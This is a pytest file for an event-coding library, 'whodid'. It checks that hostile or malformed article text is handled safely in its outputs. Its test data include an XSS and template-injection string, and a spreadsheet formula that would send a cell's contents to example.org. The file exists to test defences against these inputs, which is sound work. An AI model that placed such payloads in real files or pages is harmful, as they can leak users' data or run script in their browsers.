"""Words that are programs, turn text around, or are no words at all, on their way from an article into every output."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pytest

import whodid as wd
from event_samples import make_events
from whodid.articles.model import Article
from whodid.codebook.model import Codebook
from whodid.coder.code import default_coder
from whodid.events.files import read_events, write_events

PROGRAM = "<img src=x onerror=alert(1)>'\"&{{7*7}}"
RUN_BY_A_SPREADSHEET = '=HYPERLINK("http://example.org/?"&A1)'


def test_no_table_for_a_spreadsheet_holds_a_cell_that_it_would_run(codebook: Codebook, tmp_path: Path) -> None:
    events = make_events(publisher=RUN_BY_A_SPREADSHEET, note=RUN_BY_A_SPREADSHEET, article_id=RUN_BY_A_SPREADSHEET)
    write_events(events, tmp_path / "events.csv")
    wd.summarize(events, tmp_path, codebook=codebook)
    cells = [
        cell
        for path in tmp_path.rglob("*.csv")
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert f"'{RUN_BY_A_SPREADSHEET}" in cells
    assert [cell for cell in cells if cell.startswith(("=", "@"))] == []
    assert read_events(tmp_path / "events.csv")["note"].tolist() == [RUN_BY_A_SPREADSHEET]


def test_half_characters_and_null_characters_are_refused_with_the_field(tmp_path: Path) -> None:
    lines = [{"id": "a", "text": "Seoul \ud83d."}, {"id": "b\0", "text": "Seoul."}, {"id": "c", "text": "Seoul\0."}]
    (tmp_path / "a.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    read = wd.read_articles(tmp_path, published="2024-06-21")
    assert [(item.fault.line, item.fault.rule) for item in read.refused] == [
        (1, "bad-character"),
        (2, "binary"),
        (3, "binary"),
    ]


@pytest.mark.model
@pytest.mark.parametrize(
    "text",
    [
        "\u202eSeoul accused Moscow\u202c on Friday. \u200f\u2066Iran attacked Iraq.\u2069",
        "".join(map(chr, range(1, 32))) + " Seoul accused Moscow.\x7f\x85",
        PROGRAM + " Seoul accused Moscow.",
        "S\u0301\u0302\u0303" * 200 + " accused Moscow.",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 100,
        "(" * 100_000,
        '"' * 50_000 + " Seoul accused Moscow.",
        "Seoul" + "!" * 30_000 + " accused Moscow.",
    ],
    ids=["turned around", "controls", "a program", "accents", "families", "brackets", "quotes", "marks"],
)
def test_the_coder_reads_strange_text_in_seconds_and_offsets_are_those_of_the_text(text: str) -> None:
    reading = next(default_coder().read([Article("a", text, date(2024, 6, 21))]))
    for event in reading.events:
        for side in ("actor", "action", "target"):
            start, end = getattr(event, f"{side}_start"), getattr(event, f"{side}_end")
            assert text[start:end] == getattr(event, f"{side}_text")


@pytest.mark.model
def test_a_sentence_of_thousands_of_words_is_passed_over_and_the_next_one_read() -> None:
    text = "Seoul accused Moscow and " * 1000 + "left. \n\nIran attacked Iraq on Friday."
    reading = next(default_coder().read([Article("a", text, date(2024, 6, 21))]))
    assert [(event.actor, event.target) for event in reading.events] == [("IRN", "IRQ")]
    assert any("the sentence has" in skipped.reason for skipped in reading.skipped)
